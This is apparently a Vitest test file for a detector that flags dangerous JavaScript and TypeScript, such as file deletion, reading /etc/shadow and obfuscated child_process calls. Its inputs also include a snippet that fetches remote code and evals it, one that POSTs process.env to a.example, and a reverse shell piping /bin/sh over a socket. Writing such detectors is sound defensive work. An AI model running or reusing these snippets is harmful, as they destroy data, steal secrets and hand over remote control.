import { beforeAll, describe, expect, test } from 'vitest';
import { type JavaScriptParser, setJavaScriptParser } from '../../../../src/actions/code/javascript-loader.ts';
import { parseJavaScript } from '../../../../src/actions/code/javascript-parser.ts';
import { findings, read } from './read.ts';

const encoded = (text: string) => Buffer.from(text).toString('base64');
const lines = (...each: readonly string[]) => each.join('\n');
const readers: readonly (readonly [string, JavaScriptParser])[] = [
  ['with the parser', parseJavaScript],
  ['by tokens', () => undefined],
];

describe.each(readers)('JavaScript read %s', (_how, parser) => {
  beforeAll(() => setJavaScriptParser(() => parser));

  test.each<[string, readonly string[]]>([
    ["require('fs').rmSync('/srv', { recursive: true, force: true })", ['file.delete /srv recursive,force']],
    ["const { rmSync: gone } = require('node:fs'); gone('/srv')", ['file.delete /srv']],
    ["import { unlink as u } from 'fs/promises'; await u('a')", ['file.delete /home/ann/app/a']],
    ["import fs from 'fs'; fs.promises.rm('/srv')", ['file.delete /srv']],
    ["import('fs').then((fs) => fs.rmdirSync('/srv'))", ['file.delete /srv']],
    ["const fs = require('fs'); for (const f of ['/a', '/b']) fs.unlinkSync(f)", ['file.delete /a', 'file.delete /b']],
    ["['/a', '/b'].map((f) => require('fs').unlinkSync(f))", ['file.delete /a', 'file.delete /b']],
    ["const p = require('path').join(require('os').homedir(), 'x'); require('fs').unlinkSync(p)", ['file.delete /home/ann/x']],
    ['require("fs").unlinkSync(`$' + '{process.env.HOME}/x`)', ['file.delete /home/ann/x']],
    ["const drop = (p) => { require('fs').unlinkSync(p) }; drop('/srv/x')", ['file.delete /srv/x']],
    ["function drop({ path }) { return require('fs').rmSync(path) }\ndrop({ path: '/srv/x' })", ['file.delete /srv/x']],
    ["require('fs').writeFileSync('/etc/hosts', 'x')", ['file.write /etc/hosts']],
    ["require('fs').appendFileSync('log', 'x')", ['file.append /home/ann/app/log']],
    ["console.log(require('fs').readFileSync('/etc/shadow', 'utf8'))", ['file.read /etc/shadow']],
    ["await Deno.remove('/srv', { recursive: true })", ['file.delete /srv recursive']],
    ["class A { async run() { await require('fs').promises.unlink('/srv/x') } }", ['file.delete /srv/x']],
  ])('%s', (code, expected) => {
    expect(findings(read('javascript', code))).toEqual(expected);
  });

  test.each<[string, readonly string[]]>([
    ["require('child_' + 'process').execSync('rm -rf ~')", ['shell rm -rf ~']],
    ["const cp = require('child_process'); cp.spawn('rm', ['-rf', 'x'])", ['argv rm -rf x']],
    ["require('child_process').spawn('rm -rf x', { shell: true })", ['shell rm -rf x']],
    ['import { $ } from "zx"; await $`rm -rf $' + '{dir}`', ['shell rm -rf … (dynamic)']],
    ["new Deno.Command('rm', { args: ['-rf', 'x'] }).output()", ['argv rm -rf x']],
    ["process.mainModule.require('child_process').exec('id')", ['shell id']],
    ["globalThis['req' + 'uire']('child_process').exec('id')", ['shell id']],
    ["require('child_process').exec('di'.split('').reverse().join(''))", ['shell id']],
    ["require('child_process').exec(String.fromCharCode(105, 100))", ['shell id (decoded)']],
  ])('%s', (code, expected) => {
    expect(findings(read('javascript', code))).toEqual(expected);
  });

  test.each<[string, readonly string[]]>([
    [`eval(Buffer.from('${encoded('go()')}', 'base64').toString())`, ['code.eval decoded', 'code go() (decoded)']],
    [`eval(atob('${encoded('go()')}'))`, ['code.eval decoded', 'code go() (decoded)']],
    ["new Function('a', 'return a')(1)", ['code.eval literal', 'code return a']],
    ["(() => {}).constructor('return process')()", ['code.eval literal', 'code return process']],
    ["require('vm').runInNewContext(code)", ['code.eval dynamic']],
    ["fetch('https://a.example').then((r) => r.text()).then((t) => eval(t))", ['net.request a.example', 'code.eval downloaded']],
    [
      "require('https').get('https://a.example', (r) => { let b = ''; r.on('data', (d) => { b += d }); r.on('end', () => eval(b)) })",
      ['net.request a.example', 'code.eval downloaded'],
    ],
    [
      "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })",
      ['secret.dump environment', 'net.upload a.example environment'],
    ],
    [
      "const s = require('child_process').spawn('/bin/sh'); const c = require('net').connect(4444, 'a.example', () => { c.pipe(s.stdin) })",
      ['net.request a.example raw-socket,reverse-shell', 'exec /bin/sh interactive', 'argv /bin/sh'],
    ],
    ['console.log(process.env)', ['secret.dump environment']],
    ['console.log(process.env.NODE_ENV, Object.keys(process.env).length)', []],
  ])('%s', (code, expected) => {
    expect(findings(read('javascript', code)).map((each) => each.replace('https://', ''))).toEqual(expected);
  });

  test.each([
    "console.log(\"require('fs').rmSync('/')\")",
    lines("/* require('fs').rmSync('/') */", "// eval('x')", 'const a = `eval(1)`; const r = /eval(1)/g.test(a)'),
    lines("const d = JSON.parse('{}')", 'for (const [k, v] of Object.entries(d)) console.log(k, v)'),
    'const list = []; list.push(1); list.unlink = 2; db.exec("select 1"); /x/.exec("x")',
    'const f = async ({ a, b = 2 }) => { await Promise.all([a, b]) }; f({ a: 1 })',
  ])('honest code stays quiet: %s', (code) => {
    expect(findings(read('javascript', code))).toEqual([]);
  });
});

describe('TypeScript', () => {
  beforeAll(() => setJavaScriptParser(() => parseJavaScript));
  test.each<[string, readonly string[]]>([
    [
      lines(
        "import fs from 'node:fs';",
        'const drop = (p: string, q?: number): void => { fs.unlinkSync(p as string) };',
        "drop('/srv/x');",
      ),
      ['file.delete /srv/x'],
    ],
    [lines("import * as fs from 'fs';", 'function drop(p: string): void { fs.rmSync(p!) }', "drop('/srv/x')"), ['file.delete /srv/x']],
    [
      lines('interface A { rm(): void }', 'type B = { a: string };', "const s: string = '/srv/x';", "require('fs').unlinkSync(s)"),
      ['file.delete /srv/x'],
    ],
  ])('%s', (code, expected) => {
    expect(findings(read('javascript', code))).toEqual(expected);
  });
});
